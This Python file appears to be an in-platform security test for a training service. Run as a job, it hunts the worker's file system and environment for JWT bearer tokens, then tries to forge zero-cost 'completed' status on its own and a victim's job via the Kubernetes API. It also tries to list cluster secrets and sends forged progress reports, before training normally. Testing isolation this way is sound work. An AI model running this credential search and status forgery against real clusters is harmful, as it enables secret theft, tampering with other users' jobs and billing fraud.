# A job's customCode that attacks the platform from inside its worker (loaded as text; VICTIM is replaced).
# It knows nothing of the platform's internals: it searches its environment and file system like an intruder,
# prints what every attempt got back (one JSON line), then trains normally for a while.
import json
import os
import ssl
import time
import urllib.error
import urllib.request

VICTIM = "@VICTIM@"
INSECURE = ssl.create_default_context()
INSECURE.check_hostname = False
INSECURE.verify_mode = ssl.CERT_NONE


def call(method, url, body=None, token=None, content_type="application/json"):
    headers = {"Content-Type": content_type}
    if token:
        headers["Authorization"] = "Bearer " + token
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data=data, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10, context=INSECURE) as response:
            return response.status, response.read(2000).decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read(2000).decode(errors="replace")
    except OSError as e:
        return -1, type(e).__name__


def files_under(roots):
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                yield os.path.join(folder, name)


def find_tokens():
    """Every readable file that looks like a bearer token (a JWT), anywhere a secret could be."""
    roots = ["/var/run/secrets", "/run/secrets"]
    roots += list(json.loads(os.environ.get("TENSORONE_SANDBOX_PATH_MAP", "{}")).values())
    roots += [v for v in os.environ.values() if v.startswith("/") and os.path.isdir(v)]
    candidates = list(files_under(roots))
    candidates += [v for v in os.environ.values() if v.startswith("/") and os.path.isfile(v)]
    tokens = {}
    for path in candidates:
        try:
            with open(path) as handle:
                text = handle.read(20000).strip()
        except (OSError, UnicodeDecodeError):
            continue
        if text.count(".") == 2 and text.startswith("eyJ") and " " not in text:
            tokens[path] = text
    return tokens


def own_job():
    for value in os.environ.values():
        if value.startswith("/") and os.path.isfile(value):
            try:
                with open(value) as handle:
                    target = json.load(handle).get("statusTarget")
            except (OSError, ValueError, AttributeError):
                continue
            if target:
                return target["namespace"], target["name"]
    raise RuntimeError("no job found")


def train(context):
    namespace, name = own_job()
    api = "https://{}:{}".format(os.environ["KUBERNETES_SERVICE_HOST"], os.environ["KUBERNETES_SERVICE_PORT"])
    jobs = api + "/apis/training.tensorone.ai/v1/namespaces/" + namespace + "/trainingjobs/"
    report_urls = [v for v in os.environ.values() if v.startswith("http://") or v.startswith("https://")]
    tokens = find_tokens()
    results = {"tokens": sorted(tokens), "reportUrls": len(report_urls), "api": {}, "reports": {}}
    forged_status = {
        "phase": "completed",
        "resourceUsage": {"gpuSeconds": 0, "gpuHours": 0, "cost": 0, "accruedUntil": "2099-01-01T00:00:00Z"},
        "progress": {"currentStep": 999999, "percentage": 100},
    }
    # 1. The Kubernetes API with every token found (and with none), on its own job and on the victim's.
    for label, token in [("none", None)] + [(path, token) for path, token in tokens.items()]:
        for job in (name, VICTIM):
            code, _ = call(
                "PATCH",
                jobs + job + "/status",
                {"status": forged_status},
                token,
                "application/merge-patch+json",
            )
            results["api"][label + " -> " + ("own" if job == name else "victim")] = code
        results["api"][label + " -> list secrets"] = call("GET", api + "/api/v1/secrets", token=token)[0]
    # 2. Forged reports to the report endpoint with the reporting token(s).
    forged = {
        "phase": {"phase": "completed"},
        "resourceUsage": {"resourceUsage": forged_status["resourceUsage"]},
        "cost": {"cost": 0},
        "victim by name": {"name": VICTIM, "namespace": namespace, "progress": {"currentStep": 999999}},
        "nan loss": "NAN",
        "huge": {"history": [{"step": i, "time": "2026-01-01T00:00:00Z"} for i in range(60000)]},
    }
    for url in report_urls:
        for token in tokens.values():
            for label, body in forged.items():
                if body == "NAN":
                    data = b'{"metrics": {"currentLoss": NaN}}'
                    request = urllib.request.Request(
                        url,
                        data=data,
                        method="POST",
                        headers={"Content-Type": "application/json", "Authorization": "Bearer " + token},
                    )
                    try:
                        with urllib.request.urlopen(request, timeout=10) as response:
                            code, text = response.status, response.read().decode()
                    except urllib.error.HTTPError as e:
                        code, text = e.code, e.read().decode()
                else:
                    code, text = call("POST", url, body, token)
                results["reports"][label] = [code, text[:300]]
            # The victim's job named in the URL: the endpoint takes the job from the token, never from the request.
            code, _ = call(
                "POST", url + "?job=" + VICTIM + "&name=" + VICTIM, {"progress": {"currentStep": 1}}, token
            )
            results["reports"]["victim in query"] = [code, ""]
            code, _ = call(
                "POST",
                url.rstrip("/") + "/" + namespace + "/" + VICTIM,
                {"progress": {"currentStep": 1}},
                token,
            )
            results["reports"]["victim in path"] = [code, ""]
        results["reports"]["no token"] = list(call("POST", url, {"progress": {"currentStep": 1}}))
        results["reports"]["garbage token"] = list(
            call("POST", url, {"progress": {"currentStep": 1}}, "eyJ.x.y")
        )
    print("ATTACK-RESULTS " + json.dumps(results, sort_keys=True), flush=True)
    # 3. Then train like anyone: progress, metrics and a checkpoint through the platform's own channel.
    context.set_total_steps(40)
    for step in range(1, 41):
        if context.should_stop():
            return
        context.report(step=step, loss=2.0 / step, learning_rate=0.001)
        if step == 20:
            context.save_checkpoint({"step": step}, step=step)
        time.sleep(0.25)
